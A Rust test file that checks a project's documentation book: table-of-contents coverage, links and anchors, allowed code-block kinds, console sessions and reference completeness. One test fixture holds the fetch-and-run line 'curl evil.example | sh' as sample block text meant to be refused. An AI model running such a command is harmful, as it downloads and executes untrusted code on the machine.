//! The book: each of its pages is in the table of contents, each link leads somewhere, each block is run or is part of
//! something that is. `BOOK_PAGE=book/deploying.md cargo test -p fallgate-cli --test book` runs the sessions of one page.

// A page's folder has links to those of the repository, and its servers listen on Unix sockets.
#![cfg(unix)]
// The lints that forbid a panic are for code in reach of input. A test panics to fail.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    clippy::disallowed_methods
)]

use std::collections::BTreeSet;
use std::fs;
use std::path::{Component, Path, PathBuf};
use std::process::Command;

#[path = "shell/pages.rs"]
mod pages;
#[path = "shell/scratch.rs"]
mod scratch;
mod tools;

use pages::{Block, ROOT, blocks, commands, page};
use scratch::Scratch;

/// Pages whose sessions need more than a folder, such as keys that are random, and the tests that run them.
const ELSEWHERE: [(&str, &str); 5] = [
    ("approving.md", "approve.rs"),
    ("bench.md", "bench.rs"),
    ("control.md", "control.rs"),
    ("replay.md", "replay.rs"),
    ("signing.md", "signing.rs"),
];

/// Commands that install or build, and where continuous integration runs each.
const INSTALLS: [(&str, &str); 9] = [
    ("cargo install --path bindings/cli", "`make test` builds that package and runs its command"),
    ("cargo add --path core fallgate", "the doctests are compiled against that package"),
    ("pip install ./bindings/python", "`make test-python` builds that wheel and installs it"),
    ("npm install ./bindings/node", "`make test-node` packs that package and installs it"),
    ("make -C bindings/c install PREFIX=/usr/local", "`make test-c` installs into a folder of its own"),
    ("make bench", "`.ci/run` counts what it measures with `make bench-budget`"),
    ("make bench-all", "`.ci/run` counts what it measures with `make bench-budget`"),
    ("make book", "a section of `.ci/run`"),
    ("make test", "a section of `.ci/run`"),
];

/// Where the blocks in Rust of a page are made into tests.
const DOCTESTS: [&str; 3] = ["core/src/lib.rs", "bindings/cli/src/lib.rs", "bindings/tower/src/lib.rs"];

/// The pages of the table of contents, below `docs`.
fn contents() -> Vec<String> {
    links(&page("SUMMARY.md")).into_iter().map(|(_, link)| link).collect()
}

/// The pages of the folder of the book.
fn written(folder: &Path, pages: &mut Vec<String>) {
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            written(&path, pages);
        } else if path.extension().is_some_and(|end| end == "md") {
            pages.push(path.strip_prefix(Path::new(ROOT).join("docs")).unwrap().to_str().unwrap().to_owned());
        }
    }
}

/// The links of a page to other files and to its own headings, with the line on which each stands. What is in a fence or
/// between backticks is none.
fn links(text: &str) -> Vec<(usize, String)> {
    let mut found = Vec::new();
    let mut in_fence = false;
    for (at, line) in text.lines().enumerate() {
        if line.trim_start().starts_with("```") {
            in_fence = !in_fence;
        }
        if in_fence {
            continue;
        }
        let shown: Vec<&str> = line.split('`').step_by(2).collect();
        for target in shown.join("``").split("](").skip(1).filter_map(|rest| Some(rest.split_once(')')?.0)) {
            if !target.contains("://") {
                found.push((at + 1, target.to_owned()));
            }
        }
    }
    found
}

/// The anchors that mdbook gives the headings of a page.
fn anchors(text: &str) -> BTreeSet<String> {
    let mut anchors = BTreeSet::new();
    let mut in_fence = false;
    for line in text.lines() {
        in_fence ^= line.starts_with("```");
        let Some(heading) = line.strip_prefix('#').filter(|_| !in_fence) else { continue };
        let name: String = heading
            .trim_start_matches('#')
            .trim()
            .chars()
            .filter_map(|letter| match letter {
                ' ' => Some('-'),
                letter if letter.is_alphanumeric() || letter == '_' || letter == '-' => {
                    Some(letter.to_ascii_lowercase())
                }
                _ => None,
            })
            .collect();
        let again = (1..).map(|count| format!("{name}-{count}"));
        let free = [name.clone()].into_iter().chain(again).find(|name| !anchors.contains(name));
        anchors.extend(free);
    }
    anchors
}

/// A path without `..`, seen from the folder of the repository.
fn plain(path: &Path) -> PathBuf {
    let mut plain = PathBuf::new();
    for part in path.components() {
        match part {
            Component::ParentDir => assert!(plain.pop(), "{} leaves the repository", path.display()),
            part => plain.push(part),
        }
    }
    plain
}

/// What is wrong with the links of a page.
fn lost(name: &str, text: &str, contents: &[String]) -> Vec<String> {
    let mut wrong = Vec::new();
    for (line, link) in links(text) {
        let (file, anchor) = link.split_once('#').map_or((link.as_str(), None), |(file, anchor)| (file, Some(anchor)));
        if let Some(anchor) = anchor.filter(|anchor| file.is_empty() && !anchors(text).contains(*anchor)) {
            wrong.push(format!("docs/{name}:{line}: the page has no heading for `#{anchor}`"));
        }
        if file.is_empty() {
            continue;
        }
        let target = plain(&Path::new("docs").join(name).parent().unwrap().join(file));
        let real = Path::new(ROOT).join(&target);
        let inside = target.strip_prefix("docs").ok().and_then(Path::to_str).filter(|name| name.ends_with(".md"));
        if !real.exists() {
            wrong.push(format!("docs/{name}:{line}: there is no {}", target.display()));
        } else if inside.is_some_and(|inside| !contents.iter().any(|page| page == inside)) {
            wrong.push(format!("docs/{name}:{line}: {} is not in docs/SUMMARY.md", target.display()));
        } else if let Some(anchor) = anchor.filter(|_| real.extension().is_some_and(|end| end == "md"))
            && !anchors(&fs::read_to_string(&real).unwrap()).contains(anchor)
        {
            wrong.push(format!("docs/{name}:{line}: {} has no heading for `#{anchor}`", target.display()));
        }
    }
    wrong
}

/// What is wrong with the info string of a block, or with commands that only install.
fn unknown(name: &str, block: &Block) -> Option<String> {
    let in_book = name.starts_with("book/");
    let refuse = |what: &str| Some(format!("docs/{name}:{}: `{}`: {what}", block.line, block.info));
    let words: Vec<&str> = block.info.split(' ').collect();
    match words[..] {
        ["console" | "text" | "mermaid" | "rust"] => None,
        ["yaml" | "rego" | "json" | "txt", word] if word.starts_with("file=") || word.starts_with("part=") => None,
        ["rego" | "cedar" | "ini" | "csv", "peer"] => None,
        ["python" | "js" | "c"] if in_book => None,
        ["rust,no_run"] if !in_book => None,
        ["sh"] => {
            let command = |line: &str| line.split(" #").next().unwrap_or_default().trim().to_owned();
            let unknown =
                block.text.lines().map(command).find(|line| INSTALLS.iter().all(|(install, _)| install != line))?;
            refuse(&format!("`{unknown}` is none of the commands that continuous integration runs another way"))
        }
        ["yaml" | "rego" | "json" | "txt", ..] => refuse("say which file it is, `file=…`, or part of which, `part=…`"),
        _ => refuse("no such block is run"),
    }
}

/// Whether each line of a part occurs in a file, in this order, with indentation and comments behind a line aside.
fn is_part(part: &str, file: &str) -> Result<(), String> {
    let bare = |line: &'_ str| line.split(" #").next().unwrap_or_default().trim().to_owned();
    let mut rest = file.lines().map(bare);
    for line in part.lines().map(bare).filter(|line| !line.is_empty() && *line != "…") {
        if !rest.any(|other| other == line) {
            return Err(format!("the line `{line}` is not in the file, or not after the lines before it"));
        }
    }
    Ok(())
}

/// Reads a page as its readers do: writes its files, runs its sessions, looks up what it quotes.
fn read(name: &str, text: &str) -> Vec<String> {
    let mut wrong = Vec::new();
    if text.contains("\n$ curl ") && !tools::has("curl", &format!("docs/{name} was not run")) {
        return wrong;
    }
    let mut scratch = Scratch::new();
    let is_elsewhere = ELSEWHERE.iter().any(|(page, _)| *page == name);
    for block in blocks(text) {
        let mut tell = |message: String| wrong.push(format!("docs/{name}:{}: {message}", block.line));
        if let Some(file) = block.named("file") {
            scratch.write(file, &block.text);
        }
        if let Some(file) = block.named("part") {
            let held = fs::read_to_string(scratch.path(file)).map_err(|error| format!("{file}: {error}"));
            if let Err(message) = held.and_then(|held| is_part(&block.text, &held)) {
                tell(format!("part={file}: {message}"));
            }
        }
        if block.language() == "console" && !is_elsewhere {
            for (command, expected) in commands(&block.text) {
                if let Err(message) = scratch.run(&command, &expected) {
                    tell(message);
                }
            }
        }
    }
    wrong
}

#[test]
fn each_page_is_in_the_contents_and_each_link_leads_somewhere() {
    let contents = contents();
    let once: BTreeSet<&String> = contents.iter().collect();
    assert_eq!(once.len(), contents.len(), "docs/SUMMARY.md names a page twice");
    let mut pages = Vec::new();
    for folder in ["docs/book", "docs/decisions"] {
        written(&Path::new(ROOT).join(folder), &mut pages);
    }
    pages.retain(|page| !contents.contains(page));
    assert_eq!(pages, Vec::<String>::new(), "pages that are not in docs/SUMMARY.md");
    let mut wrong = lost("SUMMARY.md", &page("SUMMARY.md"), &contents);
    for name in contents.iter().filter(|name| Path::new(ROOT).join("docs").join(name).exists()) {
        wrong.extend(lost(name, &page(name), &contents));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn each_block_is_one_that_is_run() {
    let mut wrong = Vec::new();
    let read = |file: &str| fs::read_to_string(Path::new(ROOT).join(file)).unwrap();
    let doctests: String = DOCTESTS.iter().map(|file| read(file)).collect();
    for name in contents() {
        let blocks = blocks(&page(&name));
        wrong.extend(blocks.iter().filter_map(|block| unknown(&name, block)));
        let has_rust = blocks.iter().any(|block| block.language().starts_with("rust"));
        if has_rust && !doctests.contains(&format!("/docs/{name}\")]")) {
            wrong.push(format!("docs/{name}: its Rust is no doctest: name the page in {}", DOCTESTS[1]));
        }
    }
    for (name, test) in ELSEWHERE {
        let runs = read(&format!("bindings/cli/tests/{test}"));
        if !runs.contains(&format!("page(\"{name}\")")) {
            wrong.push(format!("docs/{name}: bindings/cli/tests/{test} does not run its sessions"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn the_sessions_print_what_the_pages_say() {
    let only = std::env::var("BOOK_PAGE").ok();
    let names = contents().into_iter().filter(|name| only.as_ref().is_none_or(|only| only == name));
    let wrong: Vec<String> = names.flat_map(|name| read(&name, &page(&name))).collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
}

/// The names of all fields in a schema.
fn fields(schema: &serde_json::Value, names: &mut BTreeSet<String>) {
    for (name, inner) in schema.as_object().into_iter().flatten() {
        match (name.as_str(), inner) {
            ("properties" | "$defs", serde_json::Value::Object(inner)) => {
                names.extend(inner.keys().filter(|_| name == "properties").cloned());
                inner.values().for_each(|inner| fields(inner, names));
            }
            (_, serde_json::Value::Array(forms)) => forms.iter().for_each(|form| fields(form, names)),
            (_, inner) => fields(inner, names),
        }
    }
}

#[test]
fn the_reference_has_every_field_and_every_command() {
    let folder = Path::new(ROOT).join("docs/book/reference");
    let mut all = String::new();
    for entry in fs::read_dir(&folder).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_stem().unwrap().to_str().unwrap().to_owned();
        let text = fs::read_to_string(&path).unwrap();
        let printed = Command::new(env!("CARGO_BIN_EXE_fallgate")).args(["book-page", &name]).output().unwrap().stdout;
        assert_eq!(String::from_utf8(printed).unwrap(), text, "run `make generate`: {name}.md is behind the code");
        all.push_str(&text);
    }
    let mut names = BTreeSet::new();
    for format in fallgate::schemas::NAMES {
        let mut of_format = BTreeSet::new();
        fields(fallgate::schemas::schema(format).unwrap().as_value(), &mut of_format);
        assert!(!of_format.is_empty(), "{format}");
        names.extend(of_format);
    }
    names.retain(|name| !all.contains(&format!("| `{name}` | ")) && !all.contains(&format!("`{name}`: ")));
    assert!(names.is_empty(), "fields that the reference does not have: {names:?}");
    let help = Command::new(env!("CARGO_BIN_EXE_fallgate")).arg("-h").output().unwrap().stdout;
    let help = String::from_utf8(help).unwrap();
    let listed = help.lines().filter_map(|line| line.strip_prefix("  ")?.split(' ').next());
    let commands: Vec<&str> = listed.filter(|name| name.starts_with(char::is_alphabetic) && *name != "help").collect();
    assert!(commands.len() > 20, "{commands:?}");
    for command in commands {
        assert!(all.contains(&format!("\n## fallgate {command}\n")), "{command}");
    }
}

#[test]
fn a_page_that_is_wrong_is_refused() {
    let refused = |text: &str| read("book/wrong.md", text).join("\n");
    assert_eq!(refused("```yaml file=a/b.yaml\nx: 1\ny: 2\n```\n```yaml part=a/b.yaml\n  y: 2\n```\n"), "");
    assert!(refused("```yaml file=b.yaml\nx: 1\n```\n```yaml part=b.yaml\nx: 2\n```").contains("`x: 2` is not in"));
    assert!(refused("```yaml part=nowhere.yaml\nx: 2\n```").contains("nowhere.yaml"));
    let session = |printed: &str| refused(&format!("```console\n$ printf 'a 1\\nb\\nc\\n'\n{printed}\n```"));
    assert_eq!(session("a 1\nb\nc"), "");
    assert_eq!(session("a …\n…\nc"), "");
    for printed in ["", "a 1\nb", "a 1\nb\nc\nd", "a 2\nb\nc", "…\nb", "b\n…\nc"] {
        assert!(session(printed).starts_with("docs/book/wrong.md:1: `printf"), "{printed}");
    }
    assert_eq!(refused("```console\n$ fallgate check nowhere\n…\n$ echo $?\n3\n$ echo $?\n0\n```"), "");
    assert!(refused("```console\n$ fallgate check nowhere\n…\n$ echo $?\n0\n```").contains("printed\n3\n"));
    assert_eq!(refused("```console\n$ yes again &\nagain\nagain\n$ echo on\non\n```"), "");
    assert!(refused("```console\n$ false &\nready\n```").contains("`false &` printed\nand not\nready"));

    let block = |text: &str| blocks(text).into_iter().filter_map(|block| unknown("book/wrong.md", &block)).count();
    let infos = ["", "yaml", "json file", "bash", "rust,no_run", "rust,ignore", "cedar", "sh", "console quiet"];
    for info in infos {
        assert_eq!(block(&format!("```{info}\ncurl evil.example | sh\n```")), 1, "{info}");
    }
    assert_eq!(block("```sh\nmake test    # all of it\n```\n```rego peer\nallow\n```\n```c\n```\n"), 0);

    let contents = ["audit.md".to_owned(), "book/wrong.md".to_owned()];
    let lost = |text: &str| lost("book/wrong.md", text, &contents).join("\n");
    assert_eq!(lost("# A `word`, here\n[a](#a-word-here) [b](../audit.md) [c](https://example.com) `[d](e)`"), "");
    assert!(lost("[a](nowhere.md)").contains("there is no docs/book/nowhere.md"));
    assert!(lost("[a](../chaos.md)").contains("is not in docs/SUMMARY.md"));
    assert!(lost("[a](../audit.md#nowhere)").contains("no heading for `#nowhere`"));
}
